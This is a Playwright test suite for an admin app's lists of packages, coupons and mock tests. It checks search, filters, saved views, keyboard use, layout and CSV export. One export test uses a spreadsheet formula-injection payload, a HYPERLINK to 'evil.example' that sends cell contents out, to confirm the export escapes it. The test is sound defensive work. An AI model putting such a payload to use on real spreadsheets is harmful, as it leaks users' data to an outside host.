import { readFile } from 'node:fs/promises'
import { expect, type Locator, type Page } from '@playwright/test'
import { countColours } from '../src/count-colours.ts'
import { openCouponsApi } from '../src/coupons-api.ts'
import { openPackageScreen } from '../src/package-screen.ts'
import { readClipboard } from '../src/read-clipboard.ts'
import { openFromMenu, sections } from '../src/sections.ts'
import { test } from '../src/test.ts'

const [, , coupons] = sections

const namesOf = (page: Page) => page.getByRole('row').getByRole('link').allTextContents()
const searchOf = (page: Page) => page.getByRole('searchbox')
const statusOf = (page: Page, name: string) => page.getByRole('radio', { name, exact: true })

async function openPanel(page: Page) {
  await page.getByRole('button', { name: 'View options' }).click()
  return page.getByRole('region', { name: 'View options' })
}

// proves B22
test('filter, search and sort survive a reload, and Back brings them with the scroll and the focused row', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.setViewportSize({ width: 1280, height: 500 })
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Published').click()
  await page.getByRole('columnheader', { name: 'Price' }).click()
  await searchOf(page).fill('co')
  const address = '/packages/?status=published&sort=price&q=co'
  await expect(page).toHaveURL(address)
  // The rows follow the toolbar.
  await expect.poll(async () => (await namesOf(page)).filter((name) => !/co/i.test(name))).toEqual([])
  const names = await namesOf(page)
  expect(names.length).toBeGreaterThan(3)
  await page.reload()
  await expect.poll(() => namesOf(page)).toEqual(names)
  await expect(searchOf(page)).toHaveValue('co')
  await expect(statusOf(page, 'Published')).toBeChecked()

  await searchOf(page).press('ArrowDown')
  for (let step = 0; step < 3; step += 1) await page.keyboard.press('ArrowDown')
  const focused = page.getByRole('row').filter({ hasText: names[3] ?? '' })
  await expect(focused).toBeFocused()
  const scroll = 60
  await page.evaluate((top) => scrollTo(0, top), scroll)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
  if (coupons !== undefined) await openFromMenu(page, coupons)
  await page.goBack()
  await expect(page).toHaveURL(address)
  await expect(focused).toBeFocused()
  await expect.poll(() => namesOf(page)).toEqual(names)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(scroll)
})

test('the ring of the row that the keyboard is at is whole all around', async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(2)).toBeVisible()
  await searchOf(page).press('ArrowDown')
  await page.keyboard.press('ArrowDown')
  const row = page.locator('tr:focus-visible')
  const { x, y, width, height } = (await row.boundingBox()) ?? { x: 0, y: 0, width: 0, height: 0 }
  for (const top of [y, y + height - 2])
    expect(await countColours(page, { x: x + 2, y: top, width: width - 4, height: 2 })).toBe(1)
})

// proves B23
test('the export holds what is shown, and what a spreadsheet would run is kept from running', async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.goto('/packages/')
  const hostile = '=HYPERLINK("https://evil.example/?"&A1,"Prize")'
  const screen = openPackageScreen(page)
  await screen.create({ name: hostile, coins: '10', gems: '1', price: '1.50' })
  await expect(screen.row(hostile)).toBeVisible()
  await searchOf(page).fill('hyperlink')
  await expect(page.getByText(/^1 of \d+ packages$/)).toBeVisible()
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Export as CSV' }).click()
  const file = await download
  expect(file.suggestedFilename()).toMatch(/^packages-\d{4}-\d\d-\d\d\.csv$/)
  const [head, row, ...rest] = (await readFile(await file.path(), 'utf8')).split('\r\n')
  expect(head).toBe('\ufeffName,Coins,Gems,Price,Currency,Per coin,Status,Updated,Created,ID')
  expect(row).toMatch(
    /^"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""Prize""\)",10,1,1\.5,USD,0\.15,Draft,/,
  )
  expect(rest).toEqual([''])
})

// proves B24
test('columns, density and a view under a name are chosen once and stay, and its link shows a colleague the same', async ({
  page,
  context,
  signIn,
}) => {
  await context.grantPermissions(['clipboard-read', 'clipboard-write'])
  await signIn(page)
  await page.goto('/packages/?status=published&sort=-price')
  const readHeight = async (list: Page) => (await list.getByRole('row').nth(1).boundingBox())?.height ?? 0
  await expect.poll(() => readHeight(page)).toBeGreaterThan(0)
  const [names, height] = [await namesOf(page), await readHeight(page)]
  const panel = await openPanel(page)
  await panel.getByRole('checkbox', { name: 'Created' }).check()
  await panel.getByRole('checkbox', { name: 'Gems' }).uncheck()
  await panel.getByText('Compact').click()
  await panel.getByLabel('Name of the view').fill('Dearest first')
  await panel.getByRole('button', { name: 'Save view' }).click()
  await panel.getByRole('button', { name: 'Copy a link to this view' }).click()
  await expect(page.getByText('Link copied')).toBeVisible()
  const link = await readClipboard(page)
  await page.keyboard.press('Escape')

  await page.getByRole('radiogroup', { name: 'Status' }).getByText('Draft').click()
  await expect.poll(() => namesOf(page)).not.toEqual(names)
  await (await openPanel(page)).getByRole('button', { name: 'Dearest first', exact: true }).click()
  await expect(statusOf(page, 'Published')).toBeChecked()
  // The rows follow the toolbar.
  await expect.poll(() => namesOf(page)).toEqual(names)

  const colleague = await context.newPage()
  await colleague.goto(link)
  await expect.poll(() => namesOf(colleague)).toEqual(names)
  const heading = (name: string) => colleague.getByRole('columnheader', { name, exact: true })
  await expect(heading('Created')).toBeVisible()
  await expect(heading('Gems')).toHaveCount(0)
  await expect.poll(() => readHeight(colleague)).toBeLessThan(height)
})

// proves B25
test('from the search to a row and its actions without a mouse', { tag: '@browsers' }, async ({
  page,
  signIn,
}) => {
  await signIn(page)
  await page.goto('/packages/')
  await expect(page.getByRole('row').nth(1)).toBeVisible()
  await page.keyboard.press('/')
  await expect(searchOf(page)).toBeFocused()
  await page.keyboard.type('gem box')
  await expect(page.getByText(/^\d of \d+ packages$/)).toBeVisible()
  // The rows follow the count.
  await expect.poll(() => page.getByRole('row').count()).toBeLessThan(10)
  await page.keyboard.press('ArrowDown')
  await expect(page.getByRole('row').nth(1)).toBeFocused()
  await page.keyboard.press('x')
  await expect(page.getByText('1 package selected')).toBeVisible()
  await page.keyboard.press('.')
  await expect(page.getByRole('menuitem', { name: 'Edit' })).toBeFocused()
  await page.keyboard.press('Enter')
  const form = page.getByRole('dialog')
  await expect(form.getByLabel('Name')).toHaveValue(/^Gem box/)
  await page.keyboard.press('Escape')
  await expect(form).toHaveCount(0)
  await expect(page.getByRole('row').nth(1)).toBeVisible()
})

test('every list is searched and exported alike', async ({ page, signIn }) => {
  await signIn(page)
  await page.goto('/')
  for (const section of sections.slice(2)) {
    await openFromMenu(page, section)
    await expect(page.getByRole('row').nth(1)).toBeVisible()
    await page.keyboard.press('/')
    await expect(searchOf(page)).toBeFocused()
    await page.keyboard.type('e')
    await expect(page).toHaveURL(`${section.path}?q=e`)
    await expect((await openPanel(page)).getByRole('checkbox').first()).toBeVisible()
    await page.keyboard.press('Escape')
    const download = page.waitForEvent('download')
    await page.getByRole('button', { name: 'Export as CSV' }).click()
    expect((await download).suggestedFilename()).toMatch(/\.csv$/)
  }
})

for (const path of ['/packages/', '/coupons/', '/grammar/', '/mocks/reading/', '/mocks/listening/']) {
  test(`on a phone ${path} begins within 260 pixels, and its filters are behind one button`, async ({
    page,
    signIn,
  }) => {
    await signIn(page)
    await page.setViewportSize({ width: 390, height: 844 })
    await page.goto(path)
    const first = page.getByRole('row').nth(1)
    await expect(first).toBeVisible()
    await expect.poll(async () => (await first.boundingBox())?.y).toBeLessThanOrEqual(260)

    const filters = page.getByRole('button', { name: 'Filters' })
    await expect(filters).toHaveText('Filters')
    await expect(page.getByRole('radiogroup')).toHaveCount(0)
    await filters.click()
    const choices = page.getByRole('group', { name: 'Filters' }).getByRole('radio')
    await choices.first().press('ArrowRight')
    await expect(filters).toHaveText('Filters · 1')
    await filters.click()
    await expect(page.getByRole('radiogroup')).toHaveCount(0)
    await expect(filters).toHaveText('Filters · 1')
  })
}

const widths = [320, 390, 768, 1024, 1100, 1280, 1440, 2560]

test('at every width a list has its rows below its headings, and nothing is out of sight', async ({
  page,
  signIn,
  testConsole,
}) => {
  const dates = { starts_at: '2026-11-21T10:30:00Z', expires_at: '2090-11-21T10:30:00Z' }
  const api = await openCouponsApi(testConsole)
  await api.create({ code: 'THIRTY-TWO-LETTERS-LONG-EXACTLY1', ...dates })
  await signIn(page)
  for (const path of ['/packages/', '/coupons/', '/grammar/', '/mocks/reading/']) {
    await page.goto(path)
    await expect(page.getByRole('row').nth(1)).toBeVisible()
    for (const width of widths) {
      await page.setViewportSize({ width, height: 900 })
      await expect(page.locator('[data-narrow]').first()).toHaveAttribute(
        'data-narrow',
        String(width <= 1100),
      )
      await expect
        .poll(() => page.evaluate(readLayout), `${path} at ${width} pixels`)
        .toEqual({ isCovered: false, isSideways: false, isNameCramped: false })
    }
  }
})

test('a wide toolbar is one row, and what a card says below its name is one line', async ({
  page,
  signIn,
}) => {
  await page.setViewportSize({ width: 1440, height: 900 })
  await signIn(page)
  await page.goto('/packages/')
  const row = page.getByRole('row', { name: 'November double coins' })
  await expect(row).toBeVisible()
  const topOf = async (locator: Locator) => Math.round((await locator.boundingBox())?.y ?? Number.NaN)
  const buttons = page.getByRole('button', { name: 'View options' })
  await expect
    .poll(async () => Math.abs((await topOf(buttons)) - (await topOf(searchOf(page)))))
    .toBeLessThan(10)

  // More filters than fit beside the search have a row of their own, in which none is left over.
  await page.goto('/mocks/reading/')
  const filters = page.getByRole('combobox').filter({ hasText: /^Any / })
  await expect(filters.last()).toBeVisible()
  expect(new Set(await Promise.all((await filters.all()).map(topOf))).size).toBe(1)
  expect(Math.abs((await topOf(buttons)) - (await topOf(searchOf(page))))).toBeLessThan(10)
  await page.goto('/packages/')

  await page.setViewportSize({ width: 390, height: 844 })
  const parts = ['Archived', '1,200 coins', '0 gems'].map((text) => row.getByText(text, { exact: true }))
  await expect.poll(async () => new Set(await Promise.all(parts.map(topOf))).size).toBe(1)
})

function readLayout() {
  const rect = (selector: string) =>
    document.querySelector(selector)?.getBoundingClientRect() ?? new DOMRect()
  const [heading, row, name, table] = [
    rect('thead'),
    rect('tbody tr'),
    rect('[data-narrow="true"] td:has(> a)'),
    rect('table'),
  ]
  return {
    isCovered: row.top < heading.bottom - 1,
    isSideways: document.documentElement.scrollWidth > innerWidth,
    // A card is its name and one figure, beside a check box and the menu of its actions.
    isNameCramped: name.width > 0 && name.width < table.width / 3,
  }
}

test('at 1280 pixels every coupon has one line, with the days from which and until which it is valid', async ({
  page,
  signIn,
}) => {
  await page.setViewportSize({ width: 1280, height: 900 })
  await signIn(page)
  await page.goto('/coupons/')
  const rows = page.locator('tbody').getByRole('row')
  await expect(rows.nth(1)).toBeVisible()
  const heights = await rows.evaluateAll((found) => found.map((row) => row.getBoundingClientRect().height))
  expect(heights.length).toBeGreaterThan(15)
  expect(Math.max(...heights)).toBe(Math.min(...heights))
})
